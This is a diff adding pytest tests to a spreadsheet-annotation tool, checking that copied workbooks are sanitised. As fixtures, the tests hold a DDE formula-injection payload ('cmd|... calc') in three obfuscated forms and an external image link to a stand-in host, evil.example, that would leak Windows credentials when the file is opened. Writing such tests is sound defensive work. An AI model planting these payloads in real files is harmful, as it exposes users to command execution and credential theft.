@@ -265,6 +265,105 @@ def test_a_sheet_with_comments_of_its_own_is_annotated_by_openpyxl(tmp_path):
     assert out["A1"].comment.text.startswith("填表说明") and out["A2"].comment.text == "【警告】示例"
 
 
+def _edited(book: Path, sheet: bytes, edit) -> bytes:
+    """The workbook's bytes with its first sheet's XML passed through ``edit`` (and any
+    other member of the returned dict set): a file openpyxl would not write."""
+    with zipfile.ZipFile(book) as z:
+        parts = {n: z.read(n) for n in z.namelist()}
+    parts.update(edit(parts[sheet.decode()]))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in parts.items():
+            z.writestr(name, data)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("formula", [
+    "<f><![CDATA[cmd|' /C calc'!A0]]></f>",  # hidden from a scan of the bytes
+    "<f>cmd|' /C calc'!<!-- -->A0</f>",
+    '<x:f xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">cmd|\' /C calc\'!A0</x:f>',
+])
+def test_a_formula_that_runs_a_program_never_survives_in_a_copy(tmp_path, formula):
+    from yearend.errors import Problem
+
+    book = tmp_path / "表.xlsx"
+    wb = openpyxl.Workbook()
+    wb.active.title = "名册"
+    wb.active["A1"], wb.active["B1"] = "姓名", 1
+    wb.save(book)
+    data = _edited(book, b"xl/worksheets/sheet1.xml", lambda xml: {
+        "xl/worksheets/sheet1.xml": xml.replace(b'<c r="B1" t="n"><v>1</v></c>', f'<c r="B1">{formula}</c>'.encode())})
+    copy = tmp_path / "copy.xlsx"
+    copy.write_bytes(data)
+    out, _ = _copy_of(copy, [Problem("警告", copy.name, "名册", "A1", "示例")])
+    cell = openpyxl.load_workbook(io.BytesIO(out))["名册"]["B1"]
+    assert cell.data_type == "s"  # text now, as openpyxl's copy makes it
+
+
+def test_a_copy_never_keeps_what_would_be_fetched_on_opening(tmp_path):
+    """A picture linked from a server (opening it would send the clerk's Windows
+    credentials there) is not carried into the copy, as openpyxl's copy never carried it."""
+    from yearend.errors import Problem
+
+    book = tmp_path / "表.xlsx"
+    wb = openpyxl.Workbook()
+    wb.active.title = "名册"
+    wb.active["A1"] = "姓名"
+    wb.save(book)
+    link = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
+            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
+            'Target="file://///evil.example/share/pic.png" TargetMode="External"/></Relationships>')
+    data = _edited(book, b"xl/worksheets/sheet1.xml", lambda xml: {"xl/drawings/_rels/drawing1.xml.rels": link.encode()})
+    copy = tmp_path / "copy.xlsx"
+    copy.write_bytes(data)
+    out, _ = _copy_of(copy, [Problem("警告", copy.name, "名册", "A1", "示例")])
+    assert b"evil.example" not in b"".join(zipfile.ZipFile(io.BytesIO(out)).read(n)
+                                          for n in zipfile.ZipFile(io.BytesIO(out)).namelist())
+
+
+def test_text_excel_cannot_hold_is_made_text_it_can(tmp_path):
+    """A \x0b pasted from Word into a cell, quoted in a message, was XML no program opens
+    (and stopped the run in 问题汇总.xlsx); text longer than a cell holds is cut."""
+    from yearend.errors import Problem
+    from yearend.sheets import problems_workbook
+
+    long = "长" * 40000
+    problems = [Problem("警告", SAMPLE.name, "人员名册", "B4", "队伍类别“专职\x0b兼职”不在选项中"),
+                Problem("警告", SAMPLE.name, "人员名册", "B5", long)]
+    data, _ = _copy_of(SAMPLE, problems)
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    assert wb["人员名册"]["B4"].comment.text == "【警告】队伍类别“专职\n兼职”不在选项中"
+    assert len(wb["问题清单"]["D3"].value) == 32767
+    book = openpyxl.load_workbook(io.BytesIO(problems_workbook([("甲局", "", "", "a.xlsx", "", "", "警告", "专职\x0b兼职",
+                                                                  long)])))
+    assert book.active["H2"].value == "专职\n兼职" and len(book.active["I2"].value) == 32767
+
+
+def test_a_workbook_with_one_fill_gets_the_two_excel_reserves_before_the_marks(tmp_path):
+    from yearend import annotate
+    from yearend.errors import Problem
+    from yearend.patchbook import patched
+
+    book = tmp_path / "表.xlsx"
+    wb = openpyxl.Workbook()
+    wb.active.title = "名册"
+    wb.active["A1"] = "姓名"
+    wb.save(book)
+
+    def one_fill(xml: bytes) -> dict:
+        with zipfile.ZipFile(book) as z:
+            styles = z.read("xl/styles.xml").decode()
+        start, end = styles.index("<fills"), styles.index("</fills>") + len("</fills>")
+        return {"xl/styles.xml": (styles[:start] + '<fills count="1"><fill><patternFill/></fill></fills>'
+                                  + styles[end:]).encode()}
+
+    data = _edited(book, b"xl/worksheets/sheet1.xml", one_fill)
+    out = patched(data, [Problem("错误", "表.xlsx", "名册", "A1", "示例")], annotate.FILLS, annotate.LIST_SHEET,
+                  annotate._DANGEROUS_FORMULA)
+    fills = zipfile.ZipFile(io.BytesIO(out)).read("xl/styles.xml").decode().split("<fill>")[1:]
+    assert "gray125" in fills[1] and "FFC7CE" in fills[2]  # fill 1 is gray125 whatever a file says
+
+
 def test_xls_gets_a_rebuilt_annotated_copy(tmp_path):
     inp, out = tmp_path / "in", tmp_path / "out"
     inp.mkdir()
